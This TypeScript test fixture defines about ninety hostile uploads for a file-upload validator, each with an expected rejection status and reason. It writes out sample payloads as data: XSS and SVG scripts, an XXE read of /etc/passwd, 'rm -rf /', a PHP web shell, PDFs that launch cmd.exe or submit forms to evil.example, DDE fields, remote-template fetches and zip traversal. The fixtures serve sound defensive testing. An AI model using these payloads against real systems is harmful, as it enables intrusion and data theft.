import { deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { objectStream, office, oldOffice, pdf, relationships, zip, type ZipPart } from './documents.js';
import { bombPng, drawn, photo } from './pictures.js';
import { fragmentedM4a, m4a, mp3, ogg, wav, webm } from './sounds.js';

/** A file that somebody sends who means harm: how it is called, what is in it, and how it is answered. */
export interface HostileFile {
  what: string;
  name: string;
  bytes: () => Buffer | Promise<Buffer>;
  status: 400 | 413 | 415;
  /** A word of the reason that is given. */
  why: string;
}

const text = (content: string) => () => Buffer.from(content);
const latin1 = (content: string) => () => Buffer.from(content, 'latin1');
const docx =
  (...more: ZipPart[]) =>
  () =>
    office('docx', more);
const part = (name: string, content: Buffer | string = 'x'): ZipPart => ({ name, content });
const elsewhere = (type: string, mode = 'External') =>
  part(
    'word/_rels/document.xml.rels',
    relationships(`Type="http://x/${type}" Target="http://evil.example/a" TargetMode="${mode}"`),
  );
const HTML = '<!doctype html><script>alert(document.cookie)</script>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const cutInHalf = (bytes: Buffer) => bytes.subarray(0, bytes.length / 2);
const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1_000_000);

// prettier-ignore
const ROWS: [string, string, HostileFile['bytes'], HostileFile['status'], string][] = [
  ['nothing', 'a.jpg', () => Buffer.alloc(0), 415, 'empty'],
  ['only spaces', 'a.txt', text(' \n '), 415, 'empty'],
  // Pages, drawings, scripts, under whatever name.
  ['a web page', 'a.html', text(HTML), 415, 'markup'],
  ['a web page called a picture', 'a.jpg', text(HTML), 415, 'markup'],
  ['a web page with a byte order mark', 'a.txt', text(`\uFEFF${HTML}`), 415, 'markup'],
  ['a web page after a page of text', 'a.txt', text('经过。'.repeat(5000) + HTML), 415, 'markup'],
  ['a web page in UTF-16', 'a.txt', () => Buffer.from(`\uFEFF${HTML}`, 'utf16le'), 415, 'UTF-8'],
  ['a drawing', 'a.svg', text(SVG), 415, 'markup'],
  ['a drawing called a PNG', 'a.png', text(SVG), 415, 'markup'],
  ['a drawing, pressed', 'a.svgz', () => gzipSync(SVG), 415, 'Archives'],
  ['XML with entities', 'a.xml', text('<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'), 415, 'markup'],
  ['a shell script', 'a.txt', text('#!/bin/sh\nrm -rf /\n'), 415, 'Scripts'],
  ['a PHP script', 'a.txt', text('<?php system($_GET["c"]); ?>'), 415, 'markup'],
  ['an address that runs', 'a.txt', text('javascript:alert(1)'), 415, 'markup'],
  ['text with escape sequences', 'a.txt', text('\x1b]0;owned\x07'), 415, 'not taken'],
  ['text that is not UTF-8', 'a.txt', latin1('\xff\xfe\xfd'), 415, 'UTF-8'],
  // Programs and archives.
  ['a program of Windows', 'a.pdf', latin1(`MZ\x90\0${'\0'.repeat(200)}PE\0\0`), 415, 'Programs'],
  ['a program of Linux', 'a.jpg', latin1(`\x7fELF\x02\x01${'\0'.repeat(100)}`), 415, 'Programs'],
  ['a program of macOS', 'a.mp3', latin1(`\xcf\xfa\xed\xfe${'\0'.repeat(100)}`), 415, 'Programs'],
  ['a class of Java', 'a.doc', latin1('\xca\xfe\xba\xbe\0\0\0\x34'), 415, 'Programs'],
  ['a ZIP', 'a.zip', () => zip([part('a.txt')]), 415, 'Archives'],
  ['a ZIP called a document', 'a.docx', () => zip([part('run.exe', 'MZ')]), 415, 'Archives'],
  ['a RAR', 'a.rar', latin1('Rar!\x1a\x07\x01\0'), 415, 'Archives'],
  ['a 7z', 'a.7z', latin1('7z\xbc\xaf\x27\x1c'), 415, 'Archives'],
  ['a shortcut of Windows', 'a.lnk', latin1('L\0\0\0\x01\x14\x02\0'), 415, 'not taken'],
  // Pictures.
  ['a picture cut in half', 'a.jpg', async () => cutInHalf(await photo(3000, 2000)), 415, 'broken'],
  ['the first bytes of a JPEG before a page', 'a.jpg', latin1(`\xff\xd8\xff\xe0${HTML}`), 415, 'broken'],
  ['the first bytes of a GIF before a script', 'a.gif', latin1('GIF89a=1;alert(1)'), 415, 'broken'],
  ['a PNG that says it is 60,000 wide and high', 'a.png', () => bombPng(60_000, 60_000), 413, '25 megapixels'],
  ['a PNG a little beyond 25 megapixels', 'a.png', () => bombPng(5001, 5000), 413, '25 megapixels'],
  ['a JPEG beyond 25 megapixels', 'a.jpg', () => photo(6000, 4200), 413, '25 megapixels'],
  ['a TIFF', 'a.tiff', () => sharp(zeros(0.03), { raw: { width: 100, height: 100, channels: 3 } }).tiff().toBuffer(), 415, 'UTF-8'],
  ['a HEIC', 'a.heic', latin1('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), 415, 'send a JPEG'],
  // Sounds.
  ['61 seconds of WAV', 'a.wav', () => wav(61), 413, '60 s'],
  ['61 seconds of MP3', 'a.mp3', () => mp3(61), 413, '60 s'],
  ['61 seconds of M4A', 'a.m4a', () => m4a(61), 413, '60 s'],
  ['61 seconds of M4A in fragments', 'a.m4a', () => fragmentedM4a(61), 413, '60 s'],
  ['61 seconds of Ogg', 'a.ogg', () => ogg(61), 413, '60 s'],
  ['61 seconds of WebM, which does not say so', 'a.webm', () => webm(61), 413, '60 s'],
  ['an M4A that says it is shorter than its bytes', 'a.m4a', () => Buffer.concat([m4a(1), zeros(3)]), 415, 'longer than it says'],
  ['a film in WebM', 'a.webm', () => webm(1, { codec: 'V_VP8', trackType: 1 }), 415, 'sound is not taken'],
  ['a Matroska', 'a.webm', () => webm(1, { docType: 'matroska' }), 415, 'sound is not taken'],
  ['a film in MP4', 'a.m4a', () => m4a(1, { handler: 'vide', sample: 'avc1' }), 415, 'not taken'],
  ['a QuickTime', 'a.m4a', () => m4a(1, { brand: 'qt  ' }), 415, 'Films'],
  ['an Ogg of something else', 'a.ogg', () => ogg(1, 'NoOpus!!'), 415, 'not taken'],
  ['a WebM of garbage', 'a.webm', latin1(`\x1a\x45\xdf\xa3${'\xff'.repeat(100)}`), 415, 'broken'],
  ['a tag of MP3 before a page', 'a.mp3', latin1(`ID3\x03\0\0\0\0\0\0${HTML}`), 415, 'not taken'],
  ['a silent WAV without a sample', 'a.wav', () => wav(0), 415, 'no sound'],
  // PDFs.
  ['a PDF with a script', 'a.pdf', () => pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 415, 'scripts'],
  ['a PDF that spells its script otherwise', 'a.pdf', () => pdf('/OpenAction << /S /J#61va#53cript /JS (x) >>'), 415, 'scripts'],
  ['a PDF with a script in a pressed object', 'a.pdf', () => pdf('', objectStream('<< /S /JavaScript /JS (x) >>')), 415, 'scripts'],
  ['a PDF with a script in an object pressed and broken off', 'a.pdf', () => pdf('', objectStream('<< /S /JavaScript /JS (x) >>', { breakOff: true })), 415, 'scripts'],
  ['a PDF with an object pressed twice', 'a.pdf', () => pdf('', objectStream('x', { filter: '[/ASCII85Decode /FlateDecode]' })), 415, 'hides'],
  ['a PDF that starts a program', 'a.pdf', () => pdf('/OpenAction << /S /Launch /F (cmd.exe) >>'), 415, 'start or send'],
  ['a PDF that sends a form', 'a.pdf', () => pdf('/AA << /O << /S /SubmitForm /F (http://evil.example) >> >>'), 415, 'start or send'],
  ['a PDF with a file in it', 'a.pdf', () => pdf('/Names << /EmbeddedFiles << /Names [(a.exe) 5 0 R] >> >>'), 415, 'other files'],
  ['a PDF with a programmed form', 'a.pdf', () => pdf('/AcroForm << /XFA [(a) 5 0 R] >>'), 415, 'programmed forms'],
  ['a PDF under lock', 'a.pdf', () => pdf('', 'trailer << /Encrypt 5 0 R >>\n'), 415, 'password'],
  ['a PDF that unpacks for ever', 'a.pdf', () => pdf('', `8 0 obj\n<< /Filter /FlateDecode >>\nstream\n${deflateSync(zeros(210)).toString('latin1')}\nendstream\nendobj\n`), 415, 'unpacks'],
  ['a PDF with a ZIP on its end', 'a.pdf', () => Buffer.concat([pdf(), zip([part('a.exe', Buffer.alloc(0)), ...Array.from({ length: 30 }, (_, i) => part(`b${i}`))])]), 415, 'hangs on the end'],
  ['a PDF without an end', 'a.pdf', () => pdf().subarray(0, 100), 415, 'cut off'],
  // Documents of Office.
  ['a document with macros', 'a.docx', docx(part('word/vbaProject.bin')), 415, 'macros'],
  ['a macro document by another name', 'a.docx', () => office('docx', [], 'application/vnd.ms-word.document.macroEnabled.main+xml'), 415, 'macros'],
  ['a macro document that spells its type otherwise', 'a.docx', () => office('docx', [], 'application/vnd.ms-word.document.macro&#69;nabled.main+xml'), 415, 'macros'],
  ['a workbook with the macros of old', 'a.xlsx', () => office('xlsx', [part('xl/macrosheets/sheet1.xml', '<x/>')]), 415, 'macros'],
  ['a document with ActiveX', 'a.docx', docx(part('word/activeX/activeX1.xml', '<x/>')), 415, 'macros'],
  ['a document that fetches its template', 'a.docx', docx(elsewhere('attachedTemplate')), 415, 'from elsewhere'],
  ['the same, spelled otherwise', 'a.docx', docx(elsewhere('attachedTemplate', '&#x45;xternal')), 415, 'from elsewhere'],
  ['the same, behind a bracket', 'a.docx', docx(elsewhere('attachedTemplate" Title="a>b&#60;')), 415, 'from elsewhere'],
  ['the same, dressed as a link', 'a.docx', docx(elsewhere(`attachedTemplate" Title=' Type="http://x/hyperlink"' Note="`)), 415, 'from elsewhere'],
  ['a document that fetches a picture', 'a.docx', docx(elsewhere('image')), 415, 'from elsewhere'],
  ['a document that starts a program', 'a.docx', docx(part('word/footer1.xml', '<w:instrText xml:space="preserve"> DDEAUTO cmd.exe </w:instrText>')), 415, 'start something'],
  ['a document with a program in it', 'a.docx', docx(part('word/embeddings/setup.exe', 'MZ')), 415, 'other files'],
  ['a document with a packed object', 'a.docx', docx(part('word/embeddings/oleObject1.bin')), 415, 'other files'],
  ['a document with a macro document in it', 'a.docx', docx(part('word/embeddings/a.docx', office('docx', [part('word/vbaProject.bin')]))), 415, 'macros'],
  ['a document in a document in a document', 'a.docx', docx(part('word/embeddings/a.docx', office('docx', [part('word/embeddings/b.docx', office('docx'))]))), 415, 'within documents'],
  ['a document with a part outside of it', 'a.docx', docx(part('../../evil.xml', '<x/>')), 415, 'broken'],
  ['a document with two parts of one name', 'a.docx', docx(part('word/document.xml', '<x/>')), 415, 'broken'],
  ['a document with entities', 'a.docx', docx(part('word/a.xml', '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>')), 415, 'broken'],
  ['a document in another alphabet', 'a.docx', docx(part('word/a.xml', '<?xml version="1.0" encoding="UTF-7"?><x/>')), 415, 'broken'],
  ['a document under lock', 'a.docx', docx({ ...part('word/a.xml'), encrypted: true }), 415, 'password'],
  ['a document that unpacks to far more', 'a.docx', docx(part('word/media/a.png', zeros(60))), 415, 'far more'],
  ['the same, which lies about it', 'a.docx', docx({ ...part('word/media/a.png', zeros(60)), claimedBytes: 10 }), 415, 'broken'],
  ['a document of ten thousand parts', 'a.docx', docx(...Array.from({ length: 6000 }, (_, i) => part(`word/a${i}.xml`, '<x/>'))), 415, 'too many parts'],
  ['a document cut in half', 'a.docx', () => office('docx').subarray(0, 300), 415, 'broken'],
  ['an old document with macros', 'a.doc', () => oldOffice('WordDocument', 'Macros', 'VBA'), 415, 'macros'],
  ['an old workbook with macros', 'a.xls', () => oldOffice('Workbook', '_VBA_PROJECT_CUR'), 415, 'macros'],
  ['an old document with a program in it', 'a.doc', () => oldOffice('WordDocument', '\x01Ole10Native'), 415, 'other files'],
  ['a new document under lock', 'a.docx', () => oldOffice('EncryptedPackage', 'EncryptionInfo'), 415, 'password'],
  ['an installer of Windows', 'a.doc', () => oldOffice('SummaryInformation', 'Property'), 415, 'not taken'],
  ['an old document of nothing', 'a.doc', latin1('\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1'), 415, 'broken'],
  // Much.
  ['more than 20 MB', 'a.pdf', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(20 * 1024 * 1024)]), 413, '20 MB'],
];

export const HOSTILE_FILES: HostileFile[] = ROWS.map(([what, name, bytes, status, why]) => ({
  what,
  name,
  bytes,
  status,
  why,
}));

/** Files with something hidden in them that is taken, and what must be gone then. */
export const MADE_HARMLESS: { what: string; bytes: () => Promise<Buffer>; gone: string }[] = [
  {
    what: 'a JPEG with a page on its end',
    bytes: async () => Buffer.concat([await photo(), Buffer.from(HTML)]),
    gone: '<script>',
  },
  {
    what: 'a GIF with a program on its end',
    bytes: async () => Buffer.concat([await drawn('gif'), Buffer.from('MZ\x90\0This program', 'latin1')]),
    gone: 'This program',
  },
  {
    what: 'a PNG with a ZIP on its end',
    bytes: async () => Buffer.concat([await drawn('png'), zip([{ name: 'evil.js', content: 'alert(1)' }])]),
    gone: 'evil.js',
  },
  {
    what: 'a JPEG with a script for its comment',
    bytes: async () => {
      const picture = await photo();
      const comment = Buffer.from('<?php system("id"); ?>');
      const head = Buffer.from([0xff, 0xfe, 0, comment.length + 2]);
      return Buffer.concat([picture.subarray(0, 2), head, comment, picture.subarray(2)]);
    },
    gone: '<?php',
  },
];
